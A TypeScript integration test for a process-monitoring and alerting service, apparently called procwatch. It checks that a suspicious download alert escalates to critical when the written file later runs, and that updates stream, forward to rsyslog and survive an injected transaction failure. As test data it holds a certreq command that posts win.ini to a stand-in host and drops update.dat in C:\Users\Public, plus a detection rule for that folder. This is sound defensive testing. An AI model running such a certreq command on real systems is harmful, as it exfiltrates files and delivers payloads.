/**
 * Extent in `procwatch serve` (SQLite, real HTTP on loopback, a real rsyslogd receiving forwards): a certreq
 * download is stored; in a LATER request another host reaches the same destination and the written file runs.
 * The stored alert then lists both, is critical with a reason saying the file ran, the run's own alert points
 * back; the update is streamed (SSE), audited and forwarded to rsyslog as an alert update. A failure injected
 * into the update's transaction stores neither the change nor its forward; the retry stores both (the outbox).
 */
import { after, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { startServer, type RunningServer } from '../../src/cli/startServer.js';
import { defaultConfig } from '../../src/service/config.js';
import { parseForwards } from '../../src/forward/config.js';
import { needs, TOOLS } from '../helpers/requirements.js';
import { AUTH, TOKEN, until } from './support/http.js';
import { ndjson, subscribe, sysmonNetwork, sysmonStart } from './support/liveEvents.js';

type Doc = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any

const dirs: string[] = [];
after(() => {
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});

const DOWNLOAD = 'certreq -Post -config https://drop.example.invalid/p C:\\Windows\\win.ini C:\\Users\\Public\\update.dat';
const PARENT = { parentGuid: '84453EAB-0009-0002-0003-000000000C00', ppid: 700 };

/** A rule for what runs from C:\Users\Public (so the run of the written file has an alert of its own). */
const PUBLIC_RULE = `title: Binary run from C:\\Users\\Public
id: 0e5b1c2a-7f3d-4d1e-9a8b-3c4d5e6f7a8b
status: test
logsource:
  product: windows
  category: process_creation
detection:
  selection:
    Image|startswith: 'C:\\Users\\Public\\'
  condition: selection
level: medium
`;

function freePort(): Promise<number> {
  return new Promise((resolve, reject) => {
    const s = createServer();
    s.once('error', reject);
    s.listen(0, '127.0.0.1', () => {
      const port = (s.address() as { port: number }).port;
      s.close(() => resolve(port));
    });
  });
}

function listening(port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const s = connect(port, '127.0.0.1', () => {
      s.end();
      resolve(true);
    });
    s.on('error', () => resolve(false));
  });
}

interface Received {
  pri: string;
  msgid: string;
  msg: string;
}

function received(file: string): Received[] {
  if (!existsSync(file)) return [];
  return readFileSync(file, 'utf8')
    .split('\n')
    .filter((l) => l.trim() !== '')
    .map((l) => JSON.parse(l) as Received);
}

async function ingest(url: string, docs: unknown[]): Promise<void> {
  const res = await fetch(`${url}/ingest`, { method: 'POST', headers: AUTH, body: ndjson(docs) });
  assert.equal(res.status, 200, await res.text());
}

async function detail(url: string, id: string): Promise<Doc> {
  return (await (await fetch(`${url}/api/alerts/${id}`, { headers: AUTH })).json()) as Doc;
}

test('serve: a later request runs the written file and reaches the destination from another host: extent, critical, linked, streamed, forwarded', needs('rsyslogd'), async (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'pw-extent-serve-'));
  dirs.push(dir);
  mkdirSync(join(dir, 'work'));
  writeFileSync(join(dir, 'public.yml'), PUBLIC_RULE);
  const port = await freePort();
  const out = join(dir, 'received.jsonl');
  writeFileSync(
    join(dir, 'rsyslog.conf'),
    `global(workDirectory="${join(dir, 'work')}" maxMessageSize="256k")
module(load="imtcp")
template(name="fields" type="list" option.jsonf="on") {
  property(outname="pri" name="pri" format="jsonf")
  property(outname="msgid" name="msgid" format="jsonf")
  property(outname="msg" name="msg" format="jsonf")
}
ruleset(name="in") { action(type="omfile" file="${out}" template="fields") }
input(type="imtcp" address="127.0.0.1" port="${port}" ruleset="in")
`,
  );
  const rsyslog = spawn(TOOLS.rsyslogd, ['-n', '-f', join(dir, 'rsyslog.conf'), '-i', join(dir, 'rsyslogd.pid')], { stdio: 'ignore' });
  t.after(() => rsyslog.kill('SIGTERM'));
  await until(() => listening(port), 10_000, 'rsyslogd listening');

  const forwards = parseForwards([{ name: 'soc', kind: 'syslog', address: `tcp://127.0.0.1:${port}`, alerts: { min_severity: 'low' } }], dir);
  const dataDir = join(dir, 'data');
  const config = { ...defaultConfig(), port: 0, dataDir, tokens: [{ name: 'analyst', token: TOKEN }], forwards, rules: { paths: [join(dir, 'public.yml')], builtin: true } };
  let srv: RunningServer = await startServer(config, { notice: () => {} });
  t.after(() => srv.close());

  // Request 1: the download on WS01.
  await ingest(srv.url, [sysmonStart({ host: 'WS01', time: '2026-05-03T10:00:01.0000000Z', guid: '84453EAB-0009-0002-0003-000000000C01', pid: 5100, ...PARENT, cmd: DOWNLOAD })]);
  const listed = await srv.store.listAlerts({ limit: 10, offset: 0 });
  assert.equal(listed.total, 1);
  const download = listed.items[0]!;
  assert.equal(download.severity, 'high');
  assert.equal((download.doc.procwatch as Doc).extent, undefined);
  await until(() => received(out).some((m) => m.msgid === 'alert'), 15_000, 'the new alert at rsyslog');

  // Request 2, later: WS02 reaches the same destination; on WS01 the written file runs.
  const sse = await subscribe(srv.url, AUTH);
  t.after(() => sse.close());
  await ingest(srv.url, [
    sysmonNetwork({ host: 'WS02', time: '2026-05-03T10:02:00.0000000Z', guid: '84453EAB-0009-0002-0003-000000000D01', pid: 2200, ip: '198.51.100.23', hostname: 'drop.example.invalid', port: 443 }),
    sysmonStart({ host: 'WS01', time: '2026-05-03T10:03:00.0000000Z', guid: '84453EAB-0009-0002-0003-000000000C02', pid: 5200, ...PARENT, image: 'C:\\Users\\Public\\update.dat', cmd: 'update.dat' }),
  ]);
  const run = (await srv.store.listAlerts({ limit: 10, offset: 0 })).items.find((a) => a.id !== download.id)!;
  assert.ok(run, 'the run has its own alert');

  // The stored download alert, as the API serves it.
  const d = await detail(srv.url, download.id);
  const stored = (await srv.store.getAlert(download.id))!;
  assert.equal(stored.severity, 'critical');
  const pw = stored.doc.procwatch as Doc;
  assert.equal(pw.severity, 'critical');
  assert.equal((stored.doc.event as Doc).risk_score, 99);
  assert.match(pw.reason, /and the downloaded file C:\\Users\\Public\\update\.dat ran at 2026-05-03T10:03:00\.0000000Z as PID 5200$/);
  assert.deepEqual(pw.extent.executed.map((e: Doc) => [e.pid, e.alert_id]), [[5200, run.id]]);
  assert.equal(pw.extent.destination.url_host, 'drop.example.invalid');
  assert.deepEqual(pw.extent.destination.hosts.map((h: Doc) => [h.host, h.processes[0].pid, h.processes[0].via]), [['ws02', 2200, 'network']]);
  // Back-link on the run's own alert; the incident took the new severity; the change is audited.
  assert.deepEqual(((run.doc.procwatch as Doc).extent.downloaded_by as Doc[]).map((l) => l.alert_id), [download.id]);
  assert.equal((await srv.store.getIncident(download.incidentId!))!.severity, 'critical');
  const audit = (d.audit as Doc[]).filter((a) => a.action === 'alert.context');
  assert.ok(audit.some((a) => (a.detail.changed as string[]).includes('extent') && a.detail.severity === 'critical'), JSON.stringify(audit));

  // Streamed to consoles and forwarded to rsyslog as an update (syslog severity 2, crit).
  await until(() => sse.blocks().some((b) => b.event === 'alert-updated' && b.id === download.id), 10_000, 'the SSE alert-updated');
  await until(() => received(out).some((m) => m.msgid === 'alert-updated'), 15_000, 'the update at rsyslog');
  const update = received(out).find((m) => m.msgid === 'alert-updated')!;
  const forwarded = JSON.parse(update.msg) as Doc;
  assert.equal(forwarded.event.id, download.id);
  assert.equal(forwarded.procwatch.severity, 'critical');
  assert.equal(forwarded.procwatch.extent.executed[0].alert_id, run.id);
  assert.equal(Number(update.pri) % 8, 2);

  // Injected failure: the update's transaction fails when it queues its forward. Neither is stored.
  const db = new Database(join(dataDir, 'procwatch.db'));
  t.after(() => db.close());
  db.exec(`CREATE TRIGGER inject_outbox_failure BEFORE INSERT ON actions WHEN NEW.request LIKE '%"op":"update"%'
           BEGIN SELECT RAISE(ABORT, 'injected outbox failure'); END;`);
  const before = (await srv.store.getAlert(download.id))!;
  const forwardsBefore = (await srv.store.listActions({ alertId: download.id, limit: 50, offset: 0 })).total;
  // WS03 reaches the destination too: an extent update of the download alert.
  await ingest(srv.url, [sysmonNetwork({ host: 'WS03', time: '2026-05-03T10:04:00.0000000Z', guid: '84453EAB-0009-0002-0003-000000000E01', pid: 3300, ip: '198.51.100.23', hostname: 'drop.example.invalid', port: 443 })]);
  const during = (await srv.store.getAlert(download.id))!;
  assert.equal(during.updatedAt, before.updatedAt, 'the change was not stored without its forward');
  assert.deepEqual(((during.doc.procwatch as Doc).extent.destination.hosts as Doc[]).map((h) => h.host), ['ws02']);
  assert.equal((await srv.store.listActions({ alertId: download.id, limit: 50, offset: 0 })).total, forwardsBefore);
  assert.ok(srv.metrics.errors.get({ component: 'store' }) >= 1, 'the failed update is counted');

  // The failure goes away: the kept update is written with the next commit, with its forward.
  db.exec('DROP TRIGGER inject_outbox_failure');
  await ingest(srv.url, [sysmonStart({ host: 'WS09', time: '2026-05-03T10:05:00.0000000Z', guid: '84453EAB-0009-0002-0003-000000000F01', pid: 9, ...PARENT, image: 'C:\\Windows\\System32\\cmd.exe', cmd: 'cmd' })]);
  const afterRetry = (await srv.store.getAlert(download.id))!;
  assert.deepEqual(((afterRetry.doc.procwatch as Doc).extent.destination.hosts as Doc[]).map((h) => h.host), ['ws02', 'ws03']);
  assert.equal((await srv.store.listActions({ alertId: download.id, limit: 50, offset: 0 })).total, forwardsBefore + 1);
  await until(() => received(out).filter((m) => m.msgid === 'alert-updated').some((m) => (JSON.parse(m.msg) as Doc).procwatch.extent.destination.hosts.length === 2), 15_000, 'the second update at rsyslog');

  // A restart rebuilds the live extent from the retained events and finds nothing new to write.
  await srv.close();
  srv = await startServer(config, { notice: () => {} });
  const restarted = (await srv.store.getAlert(download.id))!;
  assert.equal(restarted.updatedAt, afterRetry.updatedAt);
});
